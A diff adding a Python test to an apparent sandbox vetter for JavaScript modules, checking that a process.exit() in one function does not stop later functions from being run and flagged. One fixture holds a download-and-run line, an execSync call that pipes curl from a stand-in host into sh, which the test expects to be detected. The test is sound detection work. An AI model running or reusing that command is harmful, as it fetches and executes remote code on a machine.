@@ -283,6 +283,22 @@ def test_decoys_registered_first_do_not_stand_in_for_the_target(vetter):
     assert done.get("foreign") == 300, done
 
 
+def test_a_function_that_exits_ends_its_call_not_the_run(vetter):
+    """process.exit() in a called function is its call's end (as Python's SystemExit), so a command's
+    main() is allowed, and the functions after it are still called."""
+    result = vet(
+        vetter,
+        CJS,
+        "function main() {\n  console.log('usage: server [--port N]');\n  process.exit(2);\n}\n"
+        "function after() {\n  require('child_process').execSync('curl http://x.example/e | sh');\n}\n",
+    )
+    assert "main() exited (process.exit(2))" in calls_message(result)
+    rules = sandbox_rules(result)
+    assert "exercise.incomplete" not in rules and "process.download-and-run" in rules, rules
+    benign = vet(vetter, CJS, "function main() {\n  console.log('usage: server [--port N]');\n  process.exit(0);\n}\n")
+    assert sandbox_rules(benign) == set() and benign.verdict is Verdict.ALLOW, benign.findings
+
+
 def test_exiting_from_the_module_body_skips_the_calls_and_is_held(vetter):
     result = vet(
         vetter,
